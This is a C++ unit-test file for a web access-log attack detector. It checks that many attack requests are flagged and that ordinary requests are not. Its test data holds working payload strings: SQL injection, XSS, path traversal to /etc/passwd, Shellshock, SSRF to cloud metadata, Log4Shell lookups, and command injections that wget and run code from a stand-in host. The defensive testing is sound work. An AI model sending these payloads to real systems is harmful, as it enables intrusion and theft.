#include "detect/attack_signatures.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <thread>
#include <vector>

namespace accesslog {
namespace {

using Family = AttackFamily;
using ::testing::HasSubstr;

const AttackSignatures& BuiltIn() {
  static const auto signatures = AttackSignatures::Create().value();
  return *signatures;
}

AttackMatch Target(std::string_view target, std::string_view method = "GET") {
  const size_t mark = target.find('?');
  return BuiltIn().MatchTarget(
      method, target.substr(0, mark),
      mark == std::string_view::npos ? std::string_view{} : target.substr(mark + 1));
}

AttackMatch UserAgent(std::string_view user_agent) { return BuiltIn().MatchHeaders(user_agent, {}); }

std::string WhyTarget(std::string_view target) {
  const size_t mark = target.find('?');
  return BuiltIn().NamesOfTarget(
      "GET", target.substr(0, mark),
      mark == std::string_view::npos ? std::string_view{} : target.substr(mark + 1));
}

struct Case {
  Family family;
  std::string_view target;
};

TEST(AttackSignaturesTest, FamiliesOfTargets) {
  const Case cases[] = {
      {Family::kSensitiveFile, "/.env"},
      {Family::kSensitiveFile, "/api/.env.production"},
      {Family::kSensitiveFile, "/.ENV.bak"},
      {Family::kSensitiveFile, "/.git/config"},
      {Family::kSensitiveFile, "/app/.git/HEAD"},
      {Family::kSensitiveFile, "/.svn/entries"},
      {Family::kSensitiveFile, "/.htpasswd"},
      {Family::kSensitiveFile, "/.DS_Store"},
      {Family::kSensitiveFile, "/.aws/credentials"},
      {Family::kSensitiveFile, "/.ssh/id_rsa"},
      {Family::kSensitiveFile, "/wp-config.php.bak"},
      {Family::kSensitiveFile, "/wp-config.php~"},
      {Family::kSensitiveFile, "/.wp-config.php.swp"},
      {Family::kSensitiveFile, "/backup.zip"},
      {Family::kSensitiveFile, "/backup/site.tar.gz"},
      {Family::kSensitiveFile, "/dump.sql"},
      {Family::kSensitiveFile, "/www.example.org.sql.gz"},
      {Family::kSensitiveFile, "/.bash_history"},
      {Family::kSensitiveFile, "/phpinfo.php"},
      {Family::kSensitiveFile, "/server-status?auto"},
      {Family::kSensitiveFile, "/actuator/env"},
      {Family::kSensitiveFile, "/web.config"},
      {Family::kAdminInterface, "/phpmyadmin/index.php?lang=en"},
      {Family::kAdminInterface, "/phpMyAdmin-5.2.1/"},
      {Family::kAdminInterface, "/manager/html"},
      {Family::kAdminInterface, "/administrator/index.php"},
      {Family::kAdminInterface, "/adminer.php"},
      {Family::kAdminInterface, "/solr/admin/info/system?wt=json"},
      {Family::kAdminInterface, "/+CSCOE+/logon.html"},
      {Family::kAdminInterface, "/cgi-bin/luci/;stok=/locale"},
      {Family::kAdminInterface, "/HNAP1/"},
      {Family::kAdminInterface, "/boaform/admin/formLogin"},
      {Family::kAdminInterface, "/remote/login?lang=en"},
      {Family::kAdminInterface, "/owa/auth/logon.aspx"},
      {Family::kAdminInterface, "/GponForm/diag_Form?images/"},
      {Family::kWebShell, "/c99.php"},
      {Family::kWebShell, "/wp-content/uploads/wso.php?cmd=ls"},
      {Family::kWebShell, "/images/alfa.php"},
      {Family::kWebShell, "/Dive_Shell.php"},
      {Family::kWebShell, "/uploads/shell.jsp"},
      {Family::kWebShell, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
      {Family::kPathTraversal, "/../../../../etc/passwd"},
      {Family::kPathTraversal, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"},
      {Family::kPathTraversal, "/..%5c..%5c..%5cwindows/win.ini"},
      {Family::kPathTraversal, "/static/%252e%252e/%252e%252e/boot.ini"},
      {Family::kPathTraversal, "/view?file=../../../../etc/passwd%00.png"},
      {Family::kPathTraversal, "/view?file=....//....//....//etc/passwd"},
      {Family::kPathTraversal, "/view?file=/etc/passwd"},
      {Family::kPathTraversal, "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir"},
      {Family::kPathTraversal, "/..;/manager/html"},
      {Family::kPathTraversal, "/index.php?page=php://filter/convert.base64-encode/resource=index"},
      {Family::kSqlInjection, "/item?id=1+UNION+SELECT+1,2,3--"},
      {Family::kSqlInjection, "/item?id=-1%27/**/uNiOn/**/AlL/**/sElEcT/**/null,null--+-"},
      {Family::kSqlInjection, "/item?id=1%20/*!50000union*/%20/*!50000select*/%201"},
      {Family::kSqlInjection, "/item?id=1%2527%2520union%2520select%2520password%2520from%2520users"},
      {Family::kSqlInjection, "/item?id=(select(0)from(select(sleep(5)))v)"},
      {Family::kSqlInjection, "/item?id=1%27%20or%20%271%27=%271"},
      {Family::kSqlInjection, "/item?id=1+and+1=1"},
      {Family::kSqlInjection, "/item?id=1)+AND+5650=5650+AND+(4521=4521"},
      {Family::kSqlInjection, "/item?id=1%27;WAITFOR%20DELAY%20%270:0:5%27--"},
      {Family::kSqlInjection, "/item?id=extractvalue(1,concat(0x7e,version()))"},
      {Family::kSqlInjection, "/item?id=1;DROP+TABLE+users"},
      {Family::kSqlInjection, "/item?id=1+order+by+10--"},
      {Family::kSqlInjection, "/login?user=admin%27--&p=x"},
      {Family::kSqlInjection, "/item?id=1,null,null,null"},
      {Family::kSqlInjection, "/x?a=information_schema.tables"},
      {Family::kXss, "/search?q=<script>alert(1)</script>"},
      {Family::kXss, "/search?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E"},
      {Family::kXss, "/search?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E"},
      {Family::kXss, "/search?q=%3Csvg/onload=alert(1)%3E"},
      {Family::kXss, "/go?to=javascript:alert(document.cookie)"},
      {Family::kXss, "/search?q=%u003cscript%u003ealert(1)"},
      {Family::kXss, "/search?q=%27;alert(1);//"},
      {Family::kCommandInjection, "/ping?ip=127.0.0.1;id"},
      {Family::kCommandInjection, "/ping?ip=127.0.0.1|id"},
      {Family::kCommandInjection, "/ping?ip=|id"},
      {Family::kCommandInjection, "/ping?ip=$(whoami)"},
      {Family::kCommandInjection, "/ping?ip=`uname%20-a`"},
      {Family::kCommandInjection, "/ping?ip=1;cat%20/etc/passwd"},
      {Family::kCommandInjection, "/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/jaws;sh+jaws"},
      {Family::kCommandInjection,
       "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m"},
      {Family::kCommandInjection, "/?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"},
      {Family::kCommandInjection,
       "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"},
      {Family::kCommandInjection,
       "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%7D/"},
      {Family::kCommandInjection, "/?search=%24%7Bscript%3Ajavascript%3Ax%7D"},
      {Family::kCommandInjection, "/setup/setupadministrator.action"},
      {Family::kCommandInjection, "/service/extension/backup/mboximport?account-name=admin"},
      {Family::kCommandInjection, "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh"},
      {Family::kLog4Shell, "/?x=${jndi:ldap://203.0.113.9/a}"},
      {Family::kLog4Shell, "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D"},
      {Family::kLog4Shell, "/?x=${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.9/a}"},
      {Family::kLog4Shell, "/?x=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.9/a}"},
      {Family::kLog4Shell, "/?x=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x}"},
      {Family::kLog4Shell, "/?x=${${upper:${upper:${lower:j}}}ndi:rmi://203.0.113.9}"},
      {Family::kSsrf, "/fetch?url=http://169.254.169.254/latest/meta-data/"},
      {Family::kSsrf, "/fetch?url=http%3A%2F%2Fmetadata.google.internal%2F"},
      {Family::kSsrf, "/fetch?url=gopher://127.0.0.1:6379/_INFO"},
      {Family::kSsrf, "/fetch?url=file:///etc/passwd"},
      {Family::kScanner, "/nmaplowercheck1700000000"},
  };
  for (const auto& [family, target] : cases) {
    EXPECT_TRUE(Target(target).Has(family))
        << target << " is no " << AttackFamilyName(family) << " but: " << WhyTarget(target);
  }
}

// What sites, browsers, crawlers and applications send and nobody means ill by.
TEST(AttackSignaturesTest, HonestTargets) {
  const std::string_view targets[] = {
      "/",
      "/index.html",
      "/favicon.ico",
      "/robots.txt",
      "/apple-touch-icon-precomposed.png",
      "/.well-known/acme-challenge/abcdefgh",
      "/.well-known/security.txt",
      "/wp-admin/admin-ajax.php?action=heartbeat",
      "/wp-login.php?redirect_to=https%3A%2F%2Fexample.org%2Fwp-admin%2F&reauth=1",
      "/wp-json/wp/v2/posts?per_page=10&_embed",
      "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
      "/wp-content/uploads/2024/01/backup-of-my-site-how-to.pdf",
      "/xmlrpc.php",
      "/data/migrations/1548957970627_remove-db-version.sql",
      "/search?q=union+of+select+committees",
      "/search?q=european+union+select+committee+report",
      "/search?q=select+a+table+from+ikea",
      "/search?q=drop+table+lamp",
      "/search?q=O%27Brien+and+sons",
      "/search?q=rock+%27n%27+roll",
      "/search?q=how+to+use+sleep+in+python",
      "/search?q=time.sleep(5)",
      "/search?q=order+by+phone",
      "/search?q=black+and+white+or+grey",
      "/search?q=1+or+2+bedrooms",
      "/search?q=what+is+an+.env+file",
      "/search?q=curl+vs+wget",
      "/search?q=C%2B%2B",
      "/search?q=alert+sound",
      "/search?q=%E4%B8%AD%E6%96%87%EF%BC%88%E6%B5%8B%E8%AF%95%EF%BC%89",
      "/blog/union-select-explained",
      "/blog/how-to-protect-your-.env-file.html",
      "/blog/etc-passwd-explained",
      "/blog/geekery/shell-shortcut-hacks.html",
      "/blog/php-shell-scripting.html",
      "/?utm_source=feedburner&utm_medium=feed&utm_campaign=Feed%3A+a%2Fmain+%28a.com+-+J%29",
      "/?_escaped_fragment_=%2Fproducts%2F12",
      "/?fbclid=IwAR0abc-_def&gclid=Cj0KCQ",
      "/api?filter=%7B%22a%22%3A%5B1%2C2%5D%2C%22b%22%3Anull%2C%22c%22%3A%22x%22%7D",
      "/api?f.req=%5B%5B%22x%22%2Cnull%2Cnull%5D%5D",
      "/api?jql=project%3D%27ABC%27+and+status%3D%27Open%27+order+by+created",
      "/odata/Products?$filter=Price+gt+5+and+Name+eq+%27Milk%27&$select=Name&$expand=Items($select=Id)",
      "/api/items?fields=name,id&sort=-id",
      "/api/items?fields=name|id",
      "/api/items?sort=name;id",
      "/api/items?id=5&cat=3&type=all&echo=1&ls=2",
      "/redirect?url=https%3A%2F%2Fwww.example.org%2Fpath%3Fa%3Db%26c%3Dd",
      "/login?return_to=/a/../b",
      "/oauth?redirect_uri=http://localhost:3000/callback",
      "/a/../b.css",
      "/remote.php/dav/files/ann/Documents/report.docx",
      "/index.php/apps/files/?dir=/&fileid=12",
      "/apps/files_sharing/publicpreview/qdrX?file=%2FILENAME.mp3&x=500&y=500",
      "/ocs/v2.php/apps/text/workspace?path=%2F18.03.2024",
      "/apps/richdocumentscode/proxy.php?req=/browser/abc123def/images/example.svg",
      "/Items/5203a7e70b667d2cfaee2cd2eb3de082/Images/Primary?MaxHeight=330&Tags=null",
      "/avatar/room/660d1602e05705c8ca35c16c",
      "/cover/5/md?c=1746230055",
      "/api/v1/request/440",
      "/filter/27|13%20%D9%85,27|%DA%A9,p53",
      "/downloads/app-1.2.zip",
      "/releases/v1.0/source.tar.gz",
      "/files/xboxproxy/proxy-2.1.tar.gz",
      "/js/config.js",
      "/assets/config.json",
      "/browserconfig.xml",
      "/javascript:void(0)",
      "/page?callback=jQuery1124_1700000000&_=1700000001",
      "/map?bbox=1.5,2.5,3.5,4.5&layers=a;b;c",
      "/socket.io/?EIO=4&transport=polling&t=abc",
      "/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D",
      "/shop/c-12_34/product.html;jsessionid=ABCDEF0123456789",
      "/environment/report",
      "/.environmental",
      "/gitlab/project",
      "/admin/",
      "/admin/users/12/edit",
      "/cgi-bin/awstats.pl?config=example.org&output=main",
      "/scripts/%22file://$file/%22",
      "/scripts/%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D%5C%22",
      "/announce?info_hash=%00%12%ab%cd&peer_id=-TR3000-",
      "/wiki/Special:Search?search=%22cross+site+scripting%22",
      "/article?id=12&title=Q%26A+%2D%2D+part+2",
      "/style.css?v=1.0--2",
      "/products?price=10--20",
      "/tv/shows/the-shield-1998",
      "/news/2024/uncle-sam-and-the-nuclei",
      "*",
  };
  for (const std::string_view target : targets) {
    EXPECT_FALSE(Target(target).Any()) << target << ": " << WhyTarget(target);
  }
}

TEST(AttackSignaturesTest, Scanners) {
  for (const std::string_view user_agent :
       {"Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)", "sqlmap/1.7#stable (https://sqlmap.org)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.22",
        "gobuster/3.6", "DirBuster-1.0-RC1", "Fuzz Faster U Fool v2.0.0", "feroxbuster/2.10"}) {
    EXPECT_TRUE(UserAgent(user_agent).Has(Family::kScanner)) << user_agent;
    EXPECT_FALSE(UserAgent(user_agent).exploit) << user_agent;
  }
}

TEST(AttackSignaturesTest, HonestHeaders) {
  for (const std::string_view user_agent :
       {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "curl/8.5.0",
        "python-requests/2.31.0", "Go-http-client/1.1", "Swiftfin%20tvOS/70 CFNetwork/1490.0.4",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Tiny Tiny RSS/1.11 (http://tt-rss.org/)",
        "SAMSUNG-SGH-E250/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Browser/6.2.3.3.c.1.101 (GUI) MMP/2.0",
        "Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux; +http://opscode.com)",
        "Microsoft Office Protocol Discovery", "-", ""}) {
    EXPECT_FALSE(UserAgent(user_agent).Any()) << BuiltIn().NamesOfHeaders(user_agent, {});
  }
  for (const std::string_view referer :
       {"https://www.google.com/search?q=union+select+from+information_schema.tables", "-", "",
        "https://www.example.org/search?q=<script>alert(1)</script>", "android-app://com.google.android.gm/"}) {
    EXPECT_FALSE(BuiltIn().MatchHeaders({}, referer).Any()) << BuiltIn().NamesOfHeaders({}, referer);
  }
}

TEST(AttackSignaturesTest, ExploitsInHeaders) {
  const std::string_view lookup = "${jndi:${lower:l}${lower:d}a${lower:p}://x.example${upper:a}:80/callback}";
  for (const AttackMatch& match : {BuiltIn().MatchHeaders(lookup, {}), BuiltIn().MatchHeaders({}, lookup)}) {
    EXPECT_TRUE(match.Has(Family::kLog4Shell));
    EXPECT_TRUE(match.exploit);
    EXPECT_FALSE(match.leaks);
  }
  EXPECT_TRUE(UserAgent("() { :; }; /bin/bash -c \\\"id\\\"").Has(Family::kCommandInjection));
  EXPECT_TRUE(UserAgent("() { ignored; }; echo; /bin/cat /etc/passwd").exploit);
}

TEST(AttackSignaturesTest, WhatIsUnmistakableAndWhatLeaks) {
  EXPECT_EQ(Target("/.env"), (AttackMatch{AttackFamilyBit(Family::kSensitiveFile), false, true, false}));
  EXPECT_TRUE(Target("/c99.php").exploit);
  EXPECT_TRUE(Target("/c99.php").leaks);
  EXPECT_TRUE(Target("/?x=${jndi:ldap://a/b}").exploit);
  EXPECT_FALSE(Target("/?x=${jndi:ldap://a/b}").leaks);
  EXPECT_FALSE(Target("/phpmyadmin/").exploit);
  EXPECT_FALSE(Target("/phpmyadmin/").leaks);
  const AttackMatch by_query = Target("/view?file=../../../../etc/passwd");
  EXPECT_TRUE(by_query.leaks && by_query.leaks_by_query && by_query.exploit);
  const AttackMatch by_both = Target("/.env?file=../../../../etc/passwd");
  EXPECT_TRUE(by_both.leaks);
  EXPECT_FALSE(by_both.leaks_by_query);
}

TEST(AttackSignaturesTest, ProxyRequests) {
  EXPECT_TRUE(Target("foo.example:25", "CONNECT").Has(Family::kSsrf));
  EXPECT_TRUE(Target("foo.example:25", "CONNECT").exploit);
  EXPECT_FALSE(Target("/chat", "CONNECT").Any()) << "a web socket of HTTP/2";
  EXPECT_FALSE(Target("http://www.example.org:80/index.html").Any()) << "the caller compares hosts";
  EXPECT_TRUE(Target("http://www.example.org/.env").Has(Family::kSensitiveFile));
  EXPECT_TRUE(kForeignHostMatch.Has(Family::kSsrf));
  EXPECT_TRUE(kForeignHostMatch.exploit);
}

TEST(AttackSignaturesTest, HostThatTheRequestLineNames) {
  EXPECT_EQ(TargetHost("GET", "http://www.example.org:80/ip4.php"), "www.example.org");
  EXPECT_EQ(TargetHost("GET", "https://user@www.example.org/"), "www.example.org");
  EXPECT_EQ(TargetHost("GET", "http://[2001:db8::1]:80/"), "2001:db8::1");
  EXPECT_EQ(TargetHost("GET", "http://[2001:db8::1"), "2001:db8::1");
  EXPECT_EQ(TargetHost("GET", "http://"), "");
  EXPECT_EQ(TargetHost("CONNECT", "foo.example:25"), "foo.example");
  EXPECT_EQ(TargetHost("CONNECT", "/chat"), "");
  EXPECT_EQ(TargetHost("GET", "/http://www.example.org/"), "");
  EXPECT_EQ(TargetHost("GET", "*"), "");
  EXPECT_EQ(TargetHost("GET", ""), "");
}

// However a text is written, its meaning is matched.
TEST(AttackSignaturesTest, Disguises) {
  for (const std::string_view target :
       {"/%2e%65%6e%76", "/%252e%2565nv", "/%25252eenv", "/%u002eenv", "/\\x2Eenv", "/\\.env", "//.env", "/./.env",
        "/x/..%2f.env", "/.%45NV", "/%c0%aeenv", "/%c0%2eenv/.env", "/%ef%bc%8eenv", "/.env%00.jpg", "/a//./.env"}) {
    EXPECT_TRUE(Target(target).Has(Family::kSensitiveFile)) << target;
  }
  for (const std::string_view target :
       {"/x?a=1%0aunion%0dselect%091,2", "/x?a=1++union++select++1", "/x?a=1/*x*/union/*y*/select/*z*/1,2"}) {
    EXPECT_TRUE(Target(target).Has(Family::kSqlInjection)) << target;
  }
}

TEST(AttackSignaturesTest, NothingHidesBehindLength) {
  const std::string pad(3000, 'a');
  EXPECT_TRUE(Target("/" + pad + "/.env").Any());
  for (const size_t size : {4000, 4090, 4096, 5000, 8000, 12000, 15000, 40000, 1000000}) {
    const std::string query = "/?pad=" + std::string(size, 'x') + "&a=1+union+select+1,2,3";
    EXPECT_TRUE(Target(query).Has(Family::kSqlInjection)) << size;
    EXPECT_TRUE(Target("/" + std::string(size, 'x') + "/.env").Any()) << size;
  }
  // Short of 15 KiB nothing hides between two pieces, wherever it stands.
  for (size_t at = 3700; at < 4300; at += 7) {
    const std::string query = "/?pad=" + std::string(at, 'x') + "&a=1+union+select+1,2,3&pad=" + pad;
    EXPECT_TRUE(Target(query).Has(Family::kSqlInjection)) << at;
  }
}

TEST(AttackSignaturesTest, OwnRules) {
  const std::vector<SignatureRule> own = {
      {"secret_area", "", "path", "/Interner\\Bereich", "", true, false},
      {"odd_argument", "xss", "query", "debug=", R"(debug=\d{4})", false, false},
      {"robot", "scanner", "user_agent", "", "^evil-?bot", false, true},
  };
  const auto signatures = AttackSignatures::Create(own).value();
  EXPECT_EQ(signatures->MatchTarget("GET", "/x/interner/bereich/1", ""),
            (AttackMatch{AttackFamilyBit(Family::kCustom), false, true, false}));
  EXPECT_TRUE(signatures->MatchTarget("GET", "/", "DEBUG=1234").Has(Family::kXss));
  EXPECT_FALSE(signatures->MatchTarget("GET", "/", "debug=no").Any());
  EXPECT_FALSE(signatures->MatchTarget("GET", "/debug=1234", "").Any());
  EXPECT_TRUE(signatures->MatchHeaders("EvilBot/1", "").exploit);
  EXPECT_FALSE(signatures->MatchHeaders("not evilbot", "").Any());
  EXPECT_TRUE(signatures->MatchTarget("GET", "/.env", "").Any());
}

TEST(AttackSignaturesTest, BuiltInRulesCanBeSwitchedOff) {
  const std::vector<std::string> off = {"dotenv", "log4shell"};
  const auto signatures = AttackSignatures::Create({}, off).value();
  EXPECT_FALSE(signatures->MatchTarget("GET", "/.env", "").Any());
  EXPECT_FALSE(signatures->MatchTarget("GET", "/", "x=${jndi:ldap://a}").Any());
  EXPECT_TRUE(signatures->MatchTarget("GET", "/.git/HEAD", "").Any());
}

std::string ErrorOf(const SignatureRule& rule) {
  const std::vector<SignatureRule> rules = {rule};
  const auto made = AttackSignatures::Create(rules);
  return made ? "" : made.error().message;
}

TEST(AttackSignaturesTest, WrongRulesAreExplained) {
  EXPECT_THAT(ErrorOf({"", "", "path", "x", "", false, false}), HasSubstr("has no name"));
  EXPECT_THAT(ErrorOf({"a", "", "body", "x", "", false, false}), HasSubstr("\"body\""));
  EXPECT_THAT(ErrorOf({"a", "sqli", "path", "x", "", false, false}), HasSubstr("\"sqli\""));
  EXPECT_THAT(ErrorOf({"a", "", "path", "", "", false, false}), HasSubstr("neither contains nor pattern"));
  EXPECT_THAT(ErrorOf({"a", "", "path", "", "(", false, false}), HasSubstr("missing )"));
  EXPECT_THAT(ErrorOf({"dotenv", "", "path", "x", "", false, false}), HasSubstr("two signatures \"dotenv\""));
  EXPECT_THAT(ErrorOf({"a", "", "path", std::string(257, 'x'), "", false, false}), HasSubstr("longer than 256"));
  const std::vector<std::string> off = {"dotemv"};
  EXPECT_THAT(AttackSignatures::Create({}, off).error().message, HasSubstr("did you mean \"dotenv\""));
  const std::vector<SignatureRule> many(kMaxUserSignatures + 1);
  EXPECT_FALSE(AttackSignatures::Create(many));
}

TEST(AttackSignaturesTest, ManyThreadsMayMatch) {
  std::vector<std::thread> threads;
  std::array<int, 4> found{};
  for (size_t t = 0; t < found.size(); ++t) {
    threads.emplace_back([&found, t] {
      for (int i = 0; i < 200; ++i) {
        found[t] += Target("/?id=1+union+select+" + std::to_string(i)).Any() ? 1 : 0;
        found[t] += Target("/page/" + std::to_string(i)).Any() ? 1 : 0;
      }
    });
  }
  for (std::thread& thread : threads) thread.join();
  for (const int count : found) EXPECT_EQ(count, 200);
}

}  // namespace
}  // namespace accesslog
